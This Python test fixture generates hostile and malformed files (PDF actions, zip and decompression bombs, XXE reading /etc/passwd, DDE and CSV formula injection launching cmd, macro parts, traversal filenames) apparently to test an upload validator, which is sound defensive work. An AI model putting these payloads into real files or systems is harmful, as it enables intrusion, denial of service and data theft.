"""Files that mean harm, or are no files at all: (what it is, the name it is sent under, bytes)."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.attachments import LOCKED, a_pdf
from tests.files import EICAR, chunk, docx, png, pptx, rels, types, xlsx, xml, zipped

MEGABYTE = 1 << 20
AS_IT_IS = pikepdf.StreamDecodeLevel.none
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b"<!DOCTYPE x [<!ENTITY a 'ha'>" + b"".join(
    b"<!ENTITY %c '&%c;&%c;&%c;'>" % (98 + n, 97 + n, 97 + n, 97 + n) for n in range(20)
) + b"]><x>&u;</x>"  # fmt: skip
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TEXT = "application/vnd.ms-word.document.macroEnabled.main+xml"


def hostile():
    yield from in_pdfs()
    yield from bombs()
    yield from in_documents()
    yield from links()
    yield from pictures_and_tables()
    yield from of_another_kind()


def acting(action, where="open"):
    def change(pdf):
        if where == "open":
            pdf.Root.OpenAction = action
        elif where == "page":
            pdf.pages[0].obj.AA = Dictionary(O=action)
        else:
            one = Dictionary(
                Type=Name.Annot, Subtype=Name(f"/{where}"), Rect=Array([0, 0, 9, 9]), A=action
            )
            pdf.pages[0].obj.Annots = Array([pdf.make_indirect(one)])

    return a_pdf("Words", change=change)


def act(kind, **more):
    return Dictionary(S=Name(f"/{kind}"), **more)


def in_pdfs():
    script = act("JavaScript", JS=String("app.alert(1)"))
    yield "script at opening", "a.pdf", acting(script)
    yield "script of a page", "a.pdf", acting(script, "page")
    yield "script of a field", "a.pdf", acting(script, "Widget")
    names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    yield (
        "script by name",
        "a.pdf",
        a_pdf("x", change=lambda pdf: setattr(pdf.Root, "Names", names)),
    )
    yield "launch", "a.pdf", acting(act("Launch", F=String("cmd.exe")))
    yield "launch behind a link", "a.pdf", acting(act("Launch", F=String("x")), "Link")
    yield "form sent away", "a.pdf", acting(act("SubmitForm", F=String("http://x.example")), "Link")
    yield "data fetched", "a.pdf", acting(act("ImportData", F=String("x.fdf")))
    yield "file opened", "a.pdf", acting(act("GoToR", F=String("//x.example/a")))
    yield "enclosed file opened", "a.pdf", acting(act("GoToE"))
    yield "film", "a.pdf", acting(act("Rendition"), "Screen")
    yield "rich media", "a.pdf", acting(act("URI", URI=String("http://x")), "RichMedia")
    enclosed = a_pdf("x", change=lambda pdf: pdf.attachments.update({"a.exe": b"MZ"}))
    yield "enclosed program", "a.pdf", enclosed
    form = Dictionary(XFA=String("<x/>"), Fields=Array([]))
    yield "XFA", "a.pdf", a_pdf("x", change=lambda pdf: setattr(pdf.Root, "AcroForm", form))
    yield from unsound_pdfs()


def unsound_pdfs():
    yield "locked PDF", "a.pdf", LOCKED
    yield "cut PDF", "a.pdf", a_pdf("x" * 400)[:-40]
    yield "PDF of no pages", "a.pdf", a_pdf()
    yield "PDF and archive", "a.pdf", a_pdf("x") + zipped({"a.html": b"<script>"})
    yield "PDF and web page", "a.pdf", b"%PDF-1.7\n<html><script>1</script>" + a_pdf("x")[8:]
    yield "PDF behind a picture", "a.pdf", b"GIF89a" + a_pdf("x")
    yield "PDF behind text", "a.pdf", b"<!-- -->" + a_pdf("x")
    yield "stream bomb", "a.pdf", a_pdf("x", change=blow_up)
    yield (
        "stream packed twice",
        "a.pdf",
        a_pdf(
            "x",
            change=blow_up_twice,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.none,
        ),
    )
    yield "huge picture", "a.pdf", a_pdf("x", change=blow_up_picture)
    yield (
        "nested arrays",
        "a.pdf",
        a_pdf("x").replace(b"/Pages", b"/X " + b"[" * 9000 + b"/Pages", 1),
    )


def packed(megabytes: int) -> bytes:
    """Nothing at all, a great deal of it, packed."""
    packer = zlib.compressobj(1)
    pieces = [packer.compress(b"\x00" * MEGABYTE) for _ in range(megabytes)]
    return b"".join([*pieces, packer.flush()])


def blow_up(pdf):
    big = packed(150)
    pdf.Root.X = pdf.make_stream(b"")
    pdf.Root.X.write(big, filter=Name.FlateDecode)


def blow_up_twice(pdf):
    big = zlib.compress(packed(50), 9)
    pdf.Root.X = pdf.make_stream(b"")
    pdf.Root.X.write(big, filter=Array([Name.FlateDecode, Name.FlateDecode]))


def blow_up_picture(pdf):
    pdf.Root.X = pdf.make_stream(b"\x00", Subtype=Name.Image, Width=60000, Height=60000)


def bombs():
    zeros = b" " * (20 * MEGABYTE)
    yield "honest bomb", "a.docx", docx(parts={"word/big.xml": zeros})
    yield (
        "many bombs",
        "a.xlsx",
        xlsx(parts={f"xl/{n}.xml": b" " * (7 * MEGABYTE) for n in range(44)}),
    )
    yield "lying bomb", "a.docx", lying(docx(parts={"word/big.xml": zeros}), 20 * MEGABYTE, 1000)
    yield "lying head", "a.docx", lying_head(docx(parts={"word/a.xml": b"<a/>" * 99}), 396, 7)
    inner = zipped({"a.zip": zipped({"b": b" " * MEGABYTE})})
    yield "nested archives", "a.docx", docx(parts={"word/media/a.zip": inner})
    yield (
        "nested documents",
        "a.docx",
        docx(parts={"word/embeddings/a.xlsx": xlsx(parts={"xl/embeddings/b.xlsx": xlsx()})}),
    )
    yield (
        "bomb in a workbook",
        "a.pptx",
        pptx(parts={"ppt/embeddings/a.xlsx": xlsx(parts={"xl/a.xml": zeros})}),
    )
    yield "20,000 parts", "a.docx", docx(parts={f"word/{n}.xml": b"<a/>" for n in range(20_000)})
    yield "shared bytes", "a.docx", overlapping()
    yield "ZIP64", "a.docx", zip64()


def lying(content: bytes, size: int, said: int) -> bytes:
    return content.replace(struct.pack("<I", size), struct.pack("<I", said))


def lying_head(content: bytes, size: int, said: int) -> bytes:
    return content.replace(struct.pack("<I", size), struct.pack("<I", said), 1)


def overlapping() -> bytes:
    """Two entries of the list that lie at the same place."""
    content = docx(parts={"word/aaa.xml": b"<a/>" * 500, "word/bbb.xml": b"<a/>" * 500})
    first = content.rfind(b"word/aaa.xml") - 46
    second = content.rfind(b"word/bbb.xml") - 46
    place = content[first + 42 : first + 46]
    return content[: second + 42] + place + content[second + 46 :]


def zip64() -> bytes:
    """Sizes that stand in the long form and are a lie: four thousand million bytes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types("word/document.xml", "a/b"))
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(b" " * 999)
    content = made.getvalue()
    at = content.rfind(b"PK\x01\x02")
    extra = struct.pack("<HHQQ", 1, 16, 5 << 30, 100)
    entry = bytearray(content[at : at + 46 + 17])
    entry[20:28] = b"\xff" * 8
    entry[30:32] = struct.pack("<H", len(extra))
    end = bytearray(content[content.rfind(b"PK\x05\x06") :])
    end[12:16] = struct.pack("<I", struct.unpack("<I", end[12:16])[0] + len(extra))
    return content[:at] + bytes(entry) + extra + bytes(end)


def in_documents():
    macro = types("word/document.xml", TEXT)
    yield "macros as DOCX", "a.docx", docx(parts={"[Content_Types].xml": macro})
    yield "vbaProject", "a.docx", docx(parts={"word/vbaProject.bin": OLE + b"x" * 99})
    yield "vbaProject renamed", "a.xlsx", xlsx(parts={"xl/printerSettings1.bin": OLE + b"x" * 99})
    yield "macro sheet", "a.xlsx", xlsx(parts={"xl/macrosheets/sheet1.xml": b"<a/>"})
    yield "ActiveX", "a.pptx", pptx(parts={"ppt/activeX/activeX1.xml": b"<a/>"})
    yield "OLE object", "a.docx", docx(parts={"word/embeddings/oleObject1.bin": OLE + b"x"})
    yield "program inside", "a.docx", docx(parts={"word/media/a.png": b"MZ\x90"})
    yield "script inside", "a.docx", docx(parts={"word/media/a.vbs": b"x"})
    yield "web page inside", "a.docx", docx(links=[("aFChunk", "a.htm")])
    yield "EICAR inside", "a.docx", docx(parts={"word/media/a.txt": EICAR})
    yield "XXE in a document", "a.docx", docx(parts={"word/document.xml": XXE})
    yield "XXE in UTF-16", "a.docx", docx(parts={"word/a.xml": XXE.decode().encode("utf-16")})
    yield "XXE in links", "a.xlsx", xlsx(parts={"xl/_rels/workbook.xml.rels": XXE})
    yield "thousand laughs", "a.pptx", pptx(parts={"ppt/a.xml": LAUGHS})
    dde = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    yield "DDE field", "a.docx", docx(dde)
    yield (
        "DDE link",
        "a.xlsx",
        xlsx(parts={"xl/externalLinks/a.xml": xml('<x><ddeLink a="1"/></x>')}),
    )
    yield "locked document", "a.docx", OLE + b"\x00" * 600 + "EncryptedPackage".encode("utf-16-le")
    yield "old document", "a.doc", OLE + b"\x00" * 600
    yield "cut document", "a.docx", docx()[:-30]
    yield "more behind", "a.docx", docx() + b"<html>"
    yield "before and PDF", "a.docx", zipped({"%PDF-1.7": b"x"}, zipfile.ZIP_STORED)
    yield "climbing names", "a.docx", docx(parts={"../../a.xml": b"<a/>"})
    yield "deep XML", "a.docx", docx("<w:p>" * 5000 + "</w:p>" * 5000)


def links():
    away = "https://x.example/a"
    for kind, target in {
        "attachedTemplate": away, "image": away, "oleObject": away, "frame": away,
        "subDocument": away,
    }.items():  # fmt: skip
        yield f"{kind} from elsewhere", "a.docx", docx(links=[(kind, target, "External")])
    share = [("attachedTemplate", "\\\\x.example\\a.dotm", "External")]
    yield (
        "template on a share",
        "a.docx",
        docx(parts={"word/_rels/settings.xml.rels": rels(*share)}),
    )


def pictures_and_tables():
    yield "picture bomb", "a.png", png(picture=packed(40))
    yield "huge picture", "a.png", png(width=90_000, height=90_000, picture=zlib.compress(b""))
    yield (
        "text bomb",
        "a.png",
        png(chunk(b"zTXt", b"a\x00\x00" + packed(20))),
    )
    yield "picture and archive", "a.png", png(after=zipped({"a": b"b"}))
    yield "cut picture", "a.png", png()[:-9]
    yield "SVG", "a.svg", SVG
    yield "SVG as PNG", "a.png", SVG
    yield "web page as CSV", "a.csv", b"<html><body>a,b</body></html>"
    yield "formula", "a.csv", b"a,b\n=HYPERLINK(1),2\n"
    yield "formula that runs", "a.csv", b"a,b\n1,@SUM(1+9)*cmd|' /C calc'!A0\n"
    yield "EICAR", "eicar.csv", EICAR
    yield "NUL in text", "a.csv", b"a,b\n1,\x00\n"


def of_another_kind():
    yield "program as PDF", "a.pdf", b"MZ\x90\x00" + b"x" * 500
    yield "shell script", "a.csv", b"#!/bin/sh\nrm -rf /tmp/a,b\n"
    yield "archive", "a.docx", zipped({"a.txt": b"x"})
    yield "RTF", "a.rtf", b"{\\rtf1\\ansi x}"
    yield "nothing", "a.pdf", b""
    yield "one byte", "a.pdf", b"%"
    yield "noise", "a.xlsx", bytes(range(256)) * 40
    yield "too large", "a.pdf", None  # its size is announced, and no byte of it sent


NAMES = [  # of sound files: these are taken in, under names that can do no harm
    "annex\u202efdp.exe", "nul\x00.pdf", "../../../etc/passwd", "..\\..\\boot.ini", "a\r\nX: y.pdf",
    'quote".pdf', "semi;colon.pdf", "a%00.pdf", "<img src=x>.pdf", ".htaccess", "con.pdf",
    "a" * 900,
]  # fmt: skip
